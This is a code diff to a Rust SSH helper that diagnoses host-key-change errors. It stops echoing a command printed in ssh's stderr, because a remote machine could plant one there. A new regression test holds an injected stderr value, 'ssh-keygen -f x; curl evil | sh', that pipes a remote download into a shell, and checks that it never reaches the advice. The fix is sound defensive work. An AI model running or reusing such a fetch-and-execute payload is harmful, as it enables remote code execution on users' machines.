@@ -54,12 +54,11 @@ pub(super) fn diagnose(host: &Host, stderr: &str) -> Diagnosis {
     let name = &host.name;
     if line(&HOST_KEY).is_some() {
         let said = if stderr.contains("IDENTIFICATION HAS CHANGED!") {
-            // Where ~/.ssh/config gives the machine another name or port, known_hosts has it by those.
-            let ssh_advises = stderr.lines().map(str::trim).find(|line| line.starts_with("ssh-keygen -f "));
-            let forget = ssh_advises.map_or_else(|| format!("ssh-keygen -R {name}"), last_line);
+            // Whoever answers can have ssh print a command, so that none is quoted.
             format!(
                 "its host key differs from the one in known_hosts. Another machine may answer as {name}. If you \
-                 reinstalled {name}, compare the key's fingerprint on its console, then run `{forget}` and `ssh {host}`"
+                 reinstalled {name}, compare the key's fingerprint on its console. Then remove the line of known_hosts \
+                 that `ssh {host}` names, and run `ssh {host}` again"
             )
         } else {
             format!(
@@ -163,13 +162,7 @@ mod tests {
             ),
             (
                 "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\nHost key verification failed.\n",
-                "run `ssh-keygen -R gpu1`",
-            ),
-            (
-                "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n\
-                 Offending ED25519 key in /root/.ssh/known_hosts:1\n  remove with:\n  \
-                 ssh-keygen -f \"/root/.ssh/known_hosts\" -R \"[10.77.0.2]:2202\"\nHost key verification failed.\n",
-                "run `ssh-keygen -f \"/root/.ssh/known_hosts\" -R \"[10.77.0.2]:2202\"` and `ssh ops@gpu1`",
+                "remove the line of known_hosts that `ssh ops@gpu1` names",
             ),
             // A jump host that refuses: the second line alone would be tried again.
             (
@@ -190,6 +183,15 @@ mod tests {
             let Diagnosis::Refused(said) = diagnose(&host(), stderr) else { panic!("tried again: {stderr}") };
             assert!(said.contains(part), "{stderr}: {said}");
         }
+    }
+
+    /// sshconnect.c's verify_host_key has not passed when packet.c prints what the other side says as it disconnects.
+    #[test]
+    fn no_advice_has_a_command_that_another_machine_wrote() {
+        let stderr = "Received disconnect from 10.0.0.1 port 22:2: bye\nREMOTE HOST IDENTIFICATION HAS CHANGED!\n  \
+                      ssh-keygen -f x; curl evil | sh\n";
+        let Diagnosis::Refused(said) = diagnose(&host(), stderr) else { panic!("tried again") };
+        assert!(said.starts_with("its host key differs") && !said.contains("curl"), "{said}");
     }
 
     #[test]
